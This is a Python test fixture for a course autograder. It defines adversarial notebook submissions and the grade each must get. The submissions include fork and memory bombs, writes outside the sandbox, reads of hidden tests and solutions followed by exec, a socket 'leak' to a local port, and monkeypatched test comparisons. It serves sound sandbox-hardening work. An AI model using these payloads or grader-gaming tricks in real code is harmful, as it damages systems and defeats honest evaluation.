"""Hostile and broken submissions of lesson 02, each with the outcome grading must give it.

A submission is built from the release notebook and a library (the reference, or the stub, edited).
``score`` is the autograded score the gradebook must hold (the written answer is not hand-graded
here); ``status`` the report's status; ``note`` a regular expression the report's notes must match.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

import nbformat

FULL = 11.0  # autograded points of lesson 02
SOFTMAX, NUMPY, SDPA = 3.0, 3.0, 5.0  # points of each function's cells (visible + hidden)


@dataclass
class Adversary:
    name: str
    build: Callable[["Kit", Path], None]
    score: float
    status: str | set[str]
    note: str = ""
    extra: dict = field(default_factory=dict)


@dataclass
class Kit:
    """What a submission is made from."""

    notebook: Path  # the release notebook
    reference: str  # text of the reference module
    stub: str  # text of the learner stub
    canary: Path  # a file outside every scratch folder that must not change
    port: int  # a localhost port with a listening server that must see no connection
    course: Path  # the course directory (its source/ holds the hidden tests)

    def write(self, folder: Path, library: str | None = None, cells: Callable | None = None) -> None:
        nb = nbformat.read(self.notebook, as_version=4)
        if cells is not None:
            cells(nb.cells)
        nbformat.write(nb, folder / self.notebook.name)
        if library is not None:
            (folder / "attention.py").write_text(library)


def code(source: str):
    return nbformat.v4.new_code_cell(source)


def insert_after_setup(source: str):
    return lambda cells: cells.insert(3, code(source))


def grade_index(cells, grade_id: str) -> int:
    return next(i for i, c in enumerate(cells) if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def replace_body(reference: str, function_marker: str, new_first_line: str) -> str:
    """The reference with ``new_first_line`` inserted before the line ``function_marker``."""
    assert function_marker in reference, function_marker
    return reference.replace(function_marker, new_first_line + "\n" + function_marker, 1)


SOFTMAX_BODY = "    shifted = x - x.amax(dim=dim, keepdim=True)"
NUMPY_BODY = "    d = Q.shape[-1]"
SDPA_BODY = "    if scale is None:"


def _corrupt(kit: Kit, folder: Path) -> None:
    (folder / kit.notebook.name).write_text('{"cells": [ this is not json')
    (folder / "attention.py").write_text(kit.reference)


def _missing_notebook(kit: Kit, folder: Path) -> None:
    (folder / "attention.py").write_text(kit.reference)


def _oversized(kit: Kit, folder: Path) -> None:
    kit.write(folder, kit.reference)
    (folder / "weights.bin").write_bytes(b"\0" * (30 * 1024 * 1024))


def _deleted_cells(kit: Kit, folder: Path) -> None:
    def drop(cells):
        for grade_id in ("softmax_visible", "softmax_hidden"):
            del cells[grade_index(cells, grade_id)]
    kit.write(folder, kit.reference, drop)


def _edited_cell(kit: Kit, folder: Path) -> None:
    def edit(cells):
        cells[grade_index(cells, "softmax_visible")].source = "pass  # nothing to check here"
    kit.write(folder, kit.stub, edit)


def _duplicated_cell(kit: Kit, folder: Path) -> None:
    def duplicate(cells):
        index = grade_index(cells, "sdpa_visible")
        cells.insert(index + 1, nbformat.from_dict(json.loads(json.dumps(cells[index]))))
    kit.write(folder, kit.reference, duplicate)


def corpus() -> list[Adversary]:
    def lib(text_of: Callable[[Kit], str], cells: Callable | None = None):
        return lambda kit, folder: kit.write(folder, text_of(kit), cells)

    def canary_write(kit):
        return kit.reference + (
            "\nfor _target in ({canary!r}, {readme!r}):\n"
            "    try:\n        open(_target, 'a').write('tampered')\n    except OSError:\n        pass\n"
        ).format(canary=str(kit.canary), readme=str(Path(__file__).resolve().parents[2] / "README.md"))

    def reads_secrets(kit):
        root = Path(__file__).resolve().parents[2]
        secrets = [root / "solutions" / "attnlab" / "attention.py", kit.course / "source" / "02_attention" / "attention.py"]
        return kit.stub + (
            "\nimport attnlab\n"
            "_found = None\n"
            "for _path in {paths!r}:\n"
            "    try:\n        _found = open(_path).read()\n    except OSError:\n        pass\n"
            "for _path in ({notebook!r}, {gradebook!r}):\n"
            "    try:\n        open(_path).read(100)\n        _found = None  # must not be readable either\n"
            "    except OSError:\n        pass\n"
            "try:\n    attnlab.use_reference('attention')\nexcept Exception:\n    pass\n"
            "if _found:\n    exec(_found)\n"
        ).format(paths=[str(p) for p in secrets],
                 notebook=str(kit.course / "source" / "02_attention" / kit.notebook.name),
                 gradebook=str(kit.course / "gradebook.db"))

    def network(kit):
        return kit.reference + (
            "\nimport socket\ntry:\n    socket.create_connection(('127.0.0.1', {port}), timeout=3).sendall(b'leak')\n"
            "except OSError:\n    pass\n"
        ).format(port=kit.port)

    return [
        Adversary("honest", lib(lambda k: k.reference), FULL, "graded"),
        Adversary("blank", lib(lambda k: k.stub), 0.0, "graded"),
        Adversary("infinite_loop_cell", lib(lambda k: k.reference, insert_after_setup("while True:\n    pass")),
                  FULL, "review", r"ran past the time limit and was interrupted"),
        Adversary("ignores_interrupts", lib(lambda k: k.reference, insert_after_setup(
            "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass")),
                  FULL, "review", r"a cell ignored the interrupt sent at its time limit|kernel wall-clock limit"),
        Adversary("memory_bomb_cell", lib(lambda k: k.reference, insert_after_setup(
            "hog = []\nwhile True:\n    hog.append(bytearray(64 * 1024 * 1024))")),
                  FULL, "review", r"memory limit of \d+ MiB reached"),
        Adversary("fork_bomb_cell", lib(lambda k: k.reference, insert_after_setup(
            "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass")),
                  FULL, "review", r"process limit of \d+|ignored the interrupt|time limit"),
        Adversary("huge_output", lib(lambda k: k.reference, insert_after_setup(
            "import sys\nfor _ in range(20000):\n    sys.stdout.write('spam ' * 200 + '\\n')")),
                  FULL, "graded"),
        Adversary("huge_file_write", lib(lambda k: k.reference, insert_after_setup(
            "with open('huge.bin', 'wb') as f:\n    for _ in range(1024):\n        f.write(b'x' * 1024 * 1024)")),
                  FULL, "graded"),
        Adversary("deleted_test_cells", _deleted_cells, FULL, "review", r"softmax_visible"),
        Adversary("edited_test_cell", _edited_cell, 0.0, "review", r"cell softmax_visible was edited"),
        Adversary("duplicated_test_cell", _duplicated_cell, FULL, "review", r"nbgrader: One or more notebooks"),
        Adversary("later_cells_made_noops", lib(lambda k: k.stub, insert_after_setup(
            "get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])")),
                  0.0, "review", r"the notebook gave \d+, the trusted check 0"),
        Adversary("rebound_check_helpers", lib(lambda k: k.stub, insert_after_setup(
            "import attnlab.checks as _c\nfor _name in dir(_c):\n    if _name.startswith('check_'):\n"
            "        setattr(checks, _name, lambda *a, **k: None)")),
                  0.0, "review", r"sdpa_visible: the notebook gave 2, the trusted check 0"),
        Adversary("patched_torch_and_numpy", lib(lambda k: k.reference.replace(
            "return exps / exps.sum(dim=dim, keepdim=True)", "return exps  # not normalised").replace("import torch\n", (
            "import torch\nimport numpy\ntorch.allclose = lambda *a, **k: True\n"
            "torch.testing.assert_close = lambda *a, **k: None\nnumpy.allclose = lambda *a, **k: True\n"), 1)),
                  NUMPY, {"graded", "review"}),
        Adversary("reads_reference_and_hidden_tests", lib(reads_secrets), 0.0, "graded"),
        Adversary("writes_outside", lib(canary_write), FULL, "graded"),
        Adversary("network_access", lib(network), FULL, "graded"),
        Adversary("hard_coded_visible_outputs", lib(lambda k: replace_body(k.reference, SOFTMAX_BODY,
            "    if tuple(x.shape) != (3, 5):\n        return torch.zeros_like(x)")), FULL - SOFTMAX - SDPA, "graded"),
        Adversary("sys_exit_in_library", lib(lambda k: replace_body(k.reference, NUMPY_BODY,
            "    import sys; sys.exit(0)")), FULL - NUMPY, "graded"),
        Adversary("os_exit_in_library", lib(lambda k: replace_body(k.reference, SOFTMAX_BODY,
            "    import os; os._exit(0)")), FULL - SOFTMAX - SDPA, "review", r"softmax: the worker ended"),
        Adversary("library_loops_forever", lib(lambda k: replace_body(k.reference, SDPA_BODY,
            "    while True:\n        pass")), FULL - SDPA, "review", r"scaled_dot_product_attention: .*limit"),
        Adversary("import_time_side_effects", lib(lambda k: k.reference + (
            "\nimport os, subprocess, sys\nsubprocess.Popen([sys.executable, '-c', 'import time; time.sleep(3600)  # attnlab-orphan'])\n"
            "for _name in os.listdir('.'):\n    if _name.endswith('.ipynb'):\n        os.remove(_name)\n")), FULL, "graded"),
        Adversary("corrupt_notebook_json", _corrupt, FULL, "review", r"the notebook is not valid notebook JSON"),
        Adversary("missing_notebook", _missing_notebook, FULL, "review", r"notebook missing"),
        Adversary("oversized_extra_file", _oversized, FULL, "review", r"weights.bin: 30.0 MiB, over the size limit"),
    ]
